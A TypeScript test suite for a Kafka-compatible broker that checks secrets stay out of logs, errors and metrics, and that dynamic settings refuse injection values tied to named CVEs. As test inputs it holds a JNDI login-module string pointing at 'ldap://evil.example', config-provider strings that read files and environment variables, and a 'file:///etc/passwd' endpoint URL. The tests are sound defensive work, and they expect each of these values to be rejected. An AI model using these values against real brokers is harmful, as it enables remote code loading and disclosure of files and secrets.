import { createPrivateKey, generateKeyPairSync, pbkdf2Sync, sign } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { inspect } from 'node:util';
import type { Logger } from '@millrace/broker';
import { Connection, type SaslOptions } from '@millrace/network';
import {
  AlterUserScramCredentials,
  CreateDelegationToken,
  CreateTopics,
  DescribeConfigs,
  IncrementalAlterConfigs,
  Metadata,
} from '@millrace/protocol';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type BrokerProcess, startBrokerProcess } from './broker-process.ts';

const PACKAGE = 'org.apache.kafka.common.security';
const TOPIC = 2;
const BROKER = 4;
const SET = 0;

let folder: string;
let broker: BrokerProcess;
let lines: string[];
let levels: Set<string>;
/** The key that the listener with TLS starts with. */
let startKey: string;
let connections: Connection[];

const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });

function tokenFor(subject: string): string {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
  const now = Math.trunc(Date.now() / 1000);
  const body = `${part({ alg: 'ES256', kid: 'k' })}.${part({ sub: subject, iat: now, exp: now + 60 })}`;
  return `${body}.${sign('sha256', Buffer.from(body), { key: privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
}

const pem = (name: string): string =>
  readFileSync(new URL(`../../../packages/network/fixtures/${name}`, import.meta.url), 'utf8');

/** The key of the certificate behind a password; its bytes are another secret each time. */
function lockedKey(passphrase: string): string {
  const key = createPrivateKey(pem('localhost.key.pem'));
  return String(key.export({ type: 'pkcs8', format: 'pem', cipher: 'aes-256-cbc', passphrase }));
}

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'millrace-secrets-'));
  const keys = join(folder, 'keys.json');
  await writeFile(keys, JSON.stringify({ keys: [{ ...publicKey.export({ format: 'jwk' }), kid: 'k' }] }));
  lines = [];
  levels = new Set();
  startKey = lockedKey('hidden-key');
  connections = [];
  const line =
    (level: string) =>
    (fields: object, message: string): void => {
      levels.add(level);
      // Errors are objects without fields of their own to JSON.
      const shown = (_: string, value: unknown): unknown =>
        value instanceof Error ? { ...value, message: value.message, stack: value.stack, cause: value.cause } : value;
      lines.push(JSON.stringify([fields, message], shown));
    };
  const logger: Logger = {
    isLevelEnabled: () => true,
    trace: line('trace'),
    debug: line('debug'),
    info: line('info'),
    warn: line('warn'),
    error: line('error'),
  };
  const own = 'listener.name.sasl_plaintext';
  const tls = 'listener.name.tls';
  broker = await startBrokerProcess({
    env: {},
    logger,
    overrides: {
      'log.dirs': join(folder, 'data'),
      'millrace.http.port': '0',
      listeners: 'SASL_PLAINTEXT://127.0.0.1:0,TLS://127.0.0.1:0',
      'advertised.listeners': 'SASL_PLAINTEXT://localhost:0,TLS://localhost:0',
      'listener.security.protocol.map': 'SASL_PLAINTEXT:SASL_PLAINTEXT,TLS:SSL',
      'inter.broker.listener.name': 'SASL_PLAINTEXT',
      'sasl.mechanism.inter.broker.protocol': 'PLAIN',
      'password.encoder.secret': 'hidden-encoder',
      [`${tls}.ssl.keystore.key`]: startKey,
      [`${tls}.ssl.keystore.certificate.chain`]: pem('localhost.cert.pem'),
      [`${tls}.ssl.key.password`]: 'hidden-key',
      'sasl.enabled.mechanisms': 'PLAIN,SCRAM-SHA-256,SCRAM-SHA-512,OAUTHBEARER',
      [`${own}.plain.sasl.jaas.config`]: `${PACKAGE}.plain.PlainLoginModule required username="admin" password="hidden-plain" user_admin="hidden-plain";`,
      [`${own}.oauthbearer.sasl.jaas.config`]: `${PACKAGE}.oauthbearer.OAuthBearerLoginModule required;`,
      'sasl.oauthbearer.jwks.endpoint.url': pathToFileURL(keys).href,
      'delegation.token.secret.key': 'hidden-master',
      'authorizer.class.name': 'kafka.security.authorizer.AclAuthorizer',
      'super.users': 'User:admin',
    },
  });
});
afterEach(async () => {
  await Promise.all(connections.map((connection) => connection.close()));
  await broker.stop();
  await rm(folder, { recursive: true, force: true });
});

async function connect(sasl: SaslOptions): Promise<Connection> {
  const connection = await Connection.connect({ host: 'localhost', port: broker.endpoints[0]?.port ?? 0, sasl });
  connections.push(connection);
  return connection;
}

function everythingOf(value: unknown): string {
  return inspect(value, { depth: null, showHidden: true, getters: true, maxArrayLength: null, maxStringLength: null });
}

/** The broker's id, from an answer that tells of rights as well, which is traced. */
async function tracedBrokerId(connection: Connection): Promise<string> {
  const asked = { topics: [], includeClusterAuthorizedOperations: true };
  const { brokers } = await connection.send(Metadata, 9, asked);
  return String(brokers[0]?.nodeId);
}

/** Answers to who sets secrets of a certificate while the broker runs, rightly and wrongly. */
async function changedSecrets(connection: Connection, brokerId: string, replaced: string): Promise<string[]> {
  const answers: string[] = [];
  for (const [key, password] of [
    [replaced, 'hidden-later'],
    [replaced, 'hidden-mistake'],
    ['-----BEGIN hidden-rubbish-----', 'hidden-later'],
  ] as const) {
    const values = { 'ssl.keystore.key': key, 'ssl.key.password': password };
    const configs = Object.entries(values).map(([name, value]) => ({
      name: `listener.name.tls.${name}`,
      configOperation: SET,
      value,
    }));
    const resources = [{ resourceType: BROKER, resourceName: brokerId, configs }];
    const answer = await connection.send(IncrementalAlterConfigs, 1, { resources, validateOnly: false });
    expect(answer.responses[0]?.errorCode === 0).toBe(password === 'hidden-later' && key === replaced);
    answers.push(everythingOf(answer));
  }
  return answers;
}

/** All that the broker tells of its own settings and of those of all brokers. */
async function descriptions(connection: Connection, brokerId: string): Promise<string[]> {
  const told: string[] = [];
  for (const resourceName of [brokerId, '']) {
    const resources = [{ resourceType: BROKER, resourceName, configurationKeys: null }];
    const all = { resources, includeSynonyms: true, includeDocumentation: true };
    const described = await connection.send(DescribeConfigs, 4, all);
    expect(described.results).toMatchObject([{ errorCode: 0 }]);
    if (resourceName !== '') {
      const names = ['password.encoder.secret', 'listener.name.tls.ssl.key.password'];
      const secrets = described.results[0]?.configs.filter(({ name }) => names.includes(name));
      expect(secrets).toMatchObject(names.map(() => ({ value: null, isSensitive: true })));
    }
    told.push(everythingOf(described));
  }
  return told;
}

const admin = (): Promise<Connection> => connect({ mechanism: 'PLAIN', username: 'admin', password: 'hidden-plain' });

describe('what nobody may read', () => {
  it('is in no line of any level, whoever logs in by whatever, rightly or wrongly (CVE-2026-33558), and in no error, metric or title', async () => {
    const shown: string[] = [];
    const asAdmin = await admin();
    const brokerId = await tracedBrokerId(asAdmin);
    const salt = Buffer.from('hidden-salt-of-carol');
    const salted = ([1, 2] as const).map((mechanism) => {
      const hash = mechanism === 1 ? 'sha256' : 'sha512';
      return { mechanism, saltedPassword: pbkdf2Sync('hidden-scram', salt, 4096, mechanism * 32, hash) };
    });
    const upsertions = salted.map((each) => ({ name: 'carol', iterations: 4096, salt, ...each }));
    const altered = await asAdmin.send(AlterUserScramCredentials, 0, { deletions: [], upsertions });
    expect(altered.results).toMatchObject([{ errorCode: 0 }]);
    const scram = (
      mechanism: 'SCRAM-SHA-256' | 'SCRAM-SHA-512',
      password: string,
      username = 'carol',
    ): SaslOptions => ({
      mechanism,
      username,
      password,
    });
    const asCarol = await connect(scram('SCRAM-SHA-256', 'hidden-scram'));
    await connect(scram('SCRAM-SHA-512', 'hidden-scram'));
    const token = tokenFor('carol');
    await connect({ mechanism: 'OAUTHBEARER', token: () => token });
    const made = await (await connect({ mechanism: 'OAUTHBEARER', token: () => token })).send(
      CreateDelegationToken,
      2,
      {
        renewers: [],
        maxLifetimeMs: 60_000,
      },
    );
    const refused = `${token.slice(0, -8)}AAAAAAAA`;
    for (const sasl of [
      { mechanism: 'PLAIN', username: 'admin', password: 'hidden-guess' },
      scram('SCRAM-SHA-256', 'hidden-guess'),
      scram('SCRAM-SHA-512', 'hidden-guess', 'nobody'),
      { mechanism: 'OAUTHBEARER', token: () => refused },
    ] as const) {
      const error: unknown = await connect(sasl).catch((reason: unknown) => reason);
      expect(error).toMatchObject({ message: expect.stringMatching(/failed|invalid/i) });
      // What somebody has who logs the error, or the connection.
      shown.push(everythingOf(error));
    }
    shown.push(...connections.map(everythingOf), process.title, process.argv.join(' '));
    const metrics = await (await fetch(`http://127.0.0.1:${broker.httpPort}/metrics`)).text();
    expect(metrics).toMatch(/failed_authentication/);
    shown.push(metrics);
    const replaced = lockedKey('hidden-later');
    shown.push(...(await changedSecrets(asAdmin, brokerId, replaced)), ...(await descriptions(asAdmin, brokerId)));
    // Somebody who may not, and requests that are refused with what was sent in them.
    await asCarol.send(AlterUserScramCredentials, 0, { deletions: [], upsertions: upsertions.slice(0, 1) });
    const all = [...lines, ...shown].join('\n');
    expect(lines.length).toBeGreaterThan(5);
    expect(all).toContain('Failed authentication');
    expect(all).not.toMatch(/hidden-/);
    expect(levels).toContain('trace');
    for (const line of [...startKey.split('\n'), ...replaced.split('\n')].filter((each) =>
      /^[\w+/=]{20,}$/.test(each),
    )) {
      expect(all).not.toContain(line);
    }
    const bytes = [salt, ...salted.map(({ saltedPassword }) => saltedPassword), made.hmac];
    for (const secret of bytes.flatMap((each) => [each.toString('base64'), each.toString('hex')])) {
      if (secret !== '') expect(all).not.toContain(secret);
    }
    for (const part of [...token.split('.').slice(1), ...refused.split('.').slice(2)]) expect(all).not.toContain(part);
  });
});

describe('settings that come over the wire', () => {
  const set = async (connection: Connection, type: number, name: string, key: string, value: string) => {
    const configs = [{ name: key, configOperation: SET, value }];
    const { responses } = await connection.send(IncrementalAlterConfigs, 1, {
      resources: [{ resourceType: type, resourceName: name, configs }],
      validateOnly: false,
    });
    return responses[0];
  };

  it('are taken as they are written: no file and no variable is read for them (CVE-2024-31141)', async () => {
    const asAdmin = await admin();
    const topics = [{ name: 't', numPartitions: 1, replicationFactor: 1, assignments: [], configs: [] }];
    await asAdmin.send(CreateTopics, 5, { topics, timeoutMs: 10_000, validateOnly: false });
    const file = join(folder, 'values.properties');
    await writeFile(file, 'codec=zstd\n');
    for (const value of [`\${file:${file}:codec}`, `\${env:HOME}`, `\${dir:${folder}:values.properties}`]) {
      const answer = await set(asAdmin, TOPIC, 't', 'compression.type', value);
      expect(answer?.errorCode).toBe(40);
      expect(answer?.errorMessage).not.toContain(process.env['HOME'] ?? 'nothing');
    }
    const described = await asAdmin.send(DescribeConfigs, 1, {
      resources: [{ resourceType: TOPIC, resourceName: 't', configurationKeys: ['compression.type'] }],
      includeSynonyms: false,
    });
    expect(described.results[0]?.configs).toMatchObject([{ value: 'producer' }]);
  });

  it('name no class that is loaded, for logins least of all (CVE-2025-27818, CVE-2023-25194)', async () => {
    const asAdmin = await admin();
    const jaas = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.example";';
    for (const key of [
      'listener.name.sasl_plaintext.plain.sasl.jaas.config',
      'listener.name.sasl_plaintext.scram-sha-256.sasl.jaas.config',
      'sasl.jaas.config',
      'listener.name.sasl_plaintext.plain.sasl.login.class',
    ]) {
      for (const name of ['1', '']) {
        expect((await set(asAdmin, BROKER, name, key, jaas))?.errorCode, `${key} of broker ${name}`).not.toBe(0);
      }
    }
    await admin();
  });

  it('say nothing of where keys and tokens are read from (CVE-2025-27817)', async () => {
    const asAdmin = await admin();
    for (const key of ['sasl.oauthbearer.jwks.endpoint.url', 'sasl.oauthbearer.token.endpoint.url']) {
      for (const own of ['', 'listener.name.sasl_plaintext.', 'listener.name.sasl_plaintext.oauthbearer.']) {
        const answer = await set(asAdmin, BROKER, '1', `${own}${key}`, 'file:///etc/passwd');
        expect(answer?.errorCode, `${own}${key}`).not.toBe(0);
      }
    }
    const token = tokenFor('carol');
    await connect({ mechanism: 'OAUTHBEARER', token: () => token });
  });
});
